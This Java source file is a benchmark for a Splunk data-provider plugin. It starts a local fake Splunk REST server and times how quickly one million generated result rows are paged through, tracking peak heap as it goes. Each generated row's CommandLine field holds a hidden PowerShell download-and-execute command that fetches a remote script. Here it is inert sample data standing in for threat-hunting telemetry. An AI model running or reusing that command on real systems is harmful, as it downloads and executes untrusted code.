package dev.hunt4j.benchmarks;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.hunt4j.api.data.ResultStream;
import dev.hunt4j.api.query.QueryOptions;
import dev.hunt4j.runtime.DataProvider;
import dev.hunt4j.runtime.Hunt4j;
import dev.hunt4j.runtime.QueryResult;
import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The Splunk check: a 1,000,000-row search result read end to end through the real {@code splunk} plugin
 * (loaded by the runtime from the built module) from a loopback Splunk that speaks the REST API's JSON: job creation,
 * status polling, then result pages of {@code page_size} rows with {@code offset}/{@code count}, each page generated
 * while it is sent. Prints the wall time from the query to the last row, the rows/s and MB/s, the pages, and the
 * highest heap use sampled every 5 ms. Run it with a small heap to show memory does not grow with the rows.
 *
 * <pre>java -Xmx64m -Dhunt4j.root=. -cp benchmarks/target/benchmarks.jar dev.hunt4j.benchmarks.SplunkPagingRun [rows [page_size]]</pre>
 */
public final class SplunkPagingRun {
    private SplunkPagingRun() {
    }

    public static void main(String[] args) throws Exception {
        long rows = args.length > 0 ? Long.parseLong(args[0]) : 1_000_000L;
        int pageSize = args.length > 1 ? Integer.parseInt(args[1]) : 50_000;
        AtomicLong bytes = new AtomicLong();
        AtomicLong pages = new AtomicLong();
        HttpServer server = fakeSplunk(rows, bytes, pages);
        Path root = Path.of(System.getProperty("hunt4j.root", ".")).toAbsolutePath();
        AtomicLong peak = new AtomicLong();
        AtomicBoolean running = new AtomicBoolean(true);
        Thread sampler = new Thread(() -> {
            Runtime rt = Runtime.getRuntime();
            while (running.get()) {
                peak.accumulateAndGet(rt.totalMemory() - rt.freeMemory(), Math::max);
                try {
                    Thread.sleep(5);
                } catch (InterruptedException e) {
                    return;
                }
            }
        });
        sampler.setDaemon(true);
        try (Hunt4j h = Hunt4j.builder().developmentRoot(root.resolve("providers"))
                .provider("splunk-bench", "splunk", Map.of("host", "127.0.0.1", "port", server.getAddress().getPort(),
                        "http_scheme", "http", "token", "bench-token-value", "page_size", pageSize, "poll_interval", "100ms"))
                .build()) {
            DataProvider p = h.provider("splunk-bench");
            System.gc();
            sampler.start();
            long t0 = System.nanoTime();
            long n = 0;
            try (QueryResult r = p.queryText("search index=bench | table _time, host, user, EventCode, CommandLine, src_ip",
                    QueryOptions.defaults().withTimeout(Duration.ofMinutes(5)))) {
                ResultStream rs = r.stream();
                for (Object[] row = rs.next(); row != null; row = rs.next()) {
                    n++;
                }
            }
            double s = (System.nanoTime() - t0) / 1e9;
            running.set(false);
            System.out.printf("rows: %,d of %,d in %.2f s end to end (%,.0f rows/s, %.0f MB/s of JSON); %d result pages of %,d; "
                    + "peak heap used %.1f MB (max heap %.0f MB)%n", n, rows, s, n / s, bytes.get() / 1e6 / s, pages.get(), pageSize,
                    peak.get() / 1e6, Runtime.getRuntime().maxMemory() / 1e6);
        } finally {
            running.set(false);
            server.stop(0);
        }
    }

    /** The REST endpoints the plugin uses, answering from a generated result of {@code rows} events. */
    static HttpServer fakeSplunk(long rows, AtomicLong bytes, AtomicLong pages) throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 16);
        server.setExecutor(Executors.newFixedThreadPool(2, r -> {
            Thread t = new Thread(r, "fake-splunk");
            t.setDaemon(true);
            return t;
        }));
        server.createContext("/services/search/jobs", ex -> {
            drain(ex);
            String method = ex.getRequestMethod();
            if (method.equals("POST")) {
                send(ex, 201, "{\"sid\":\"bench.1\"}");
            } else if (method.equals("DELETE")) {
                send(ex, 200, "{\"messages\":[]}");
            } else {
                send(ex, 200, "{\"entry\":[{\"name\":\"search\",\"content\":{\"dispatchState\":\"DONE\",\"isDone\":true,"
                        + "\"isFailed\":false,\"isZombie\":false,\"resultCount\":" + rows + ",\"messages\":[]}}]}");
            }
        });
        server.createContext("/services/search/v2/jobs/", ex -> {
            drain(ex);
            Map<String, String> q = query(ex.getRequestURI());
            long offset = Long.parseLong(q.getOrDefault("offset", "0"));
            long count = Long.parseLong(q.getOrDefault("count", "100"));
            long end = Math.min(rows, offset + count);
            pages.incrementAndGet();
            ex.getResponseHeaders().add("Content-Type", "application/json");
            ex.sendResponseHeaders(200, 0); // chunked: the page is generated as it is sent
            long t0 = Instant.parse("2024-03-01T00:00:00Z").getEpochSecond();
            try (OutputStream o = new BufferedOutputStream(ex.getResponseBody(), 1 << 16)) {
                StringBuilder sb = new StringBuilder(1 << 16);
                sb.append("{\"preview\":false,\"init_offset\":").append(offset).append(",\"messages\":[],\"fields\":[{\"name\":\"_time\"},"
                        + "{\"name\":\"host\"},{\"name\":\"user\"},{\"name\":\"EventCode\"},{\"name\":\"CommandLine\"},{\"name\":\"src_ip\"}],\"results\":[");
                for (long i = offset; i < end; i++) {
                    sb.append(i == offset ? "{" : ",{").append("\"_time\":\"").append(Instant.ofEpochSecond(t0 + i).toString().replace("Z", ".000+00:00"))
                            .append("\",\"host\":\"wks-").append(i % 500).append("\",\"user\":\"CONTOSO\\\\user").append(i % 2000)
                            .append("\",\"EventCode\":\"").append(i % 3 == 0 ? 4624 : 4688)
                            .append("\",\"CommandLine\":\"powershell.exe -nop -w hidden -c \\\"iex(New-Object Net.WebClient).DownloadString('http://10.0.")
                            .append(i % 250).append('.').append(i % 199).append("/a.ps1')\\\"\",\"src_ip\":\"10.1.").append(i % 256).append('.')
                            .append(i % 251).append("\"}");
                    if (sb.length() > 60_000) {
                        write(o, sb, bytes);
                    }
                }
                sb.append("],\"highlighted\":{}}");
                write(o, sb, bytes);
            }
        });
        server.start();
        return server;
    }

    private static void write(OutputStream o, StringBuilder sb, AtomicLong bytes) throws IOException {
        byte[] b = sb.toString().getBytes(StandardCharsets.UTF_8);
        o.write(b);
        bytes.addAndGet(b.length);
        sb.setLength(0);
    }

    private static void drain(HttpExchange ex) throws IOException {
        try (InputStream in = ex.getRequestBody()) {
            in.readAllBytes();
        }
    }

    private static void send(HttpExchange ex, int code, String json) throws IOException {
        byte[] b = json.getBytes(StandardCharsets.UTF_8);
        ex.getResponseHeaders().add("Content-Type", "application/json");
        ex.sendResponseHeaders(code, b.length);
        try (OutputStream o = ex.getResponseBody()) {
            o.write(b);
        }
    }

    private static Map<String, String> query(URI uri) {
        Map<String, String> m = new java.util.HashMap<>();
        String q = uri.getRawQuery();
        if (q != null) {
            for (String pair : q.split("&")) {
                int eq = pair.indexOf('=');
                if (eq > 0) {
                    m.put(pair.substring(0, eq), java.net.URLDecoder.decode(pair.substring(eq + 1), StandardCharsets.UTF_8));
                }
            }
        }
        return m;
    }
}
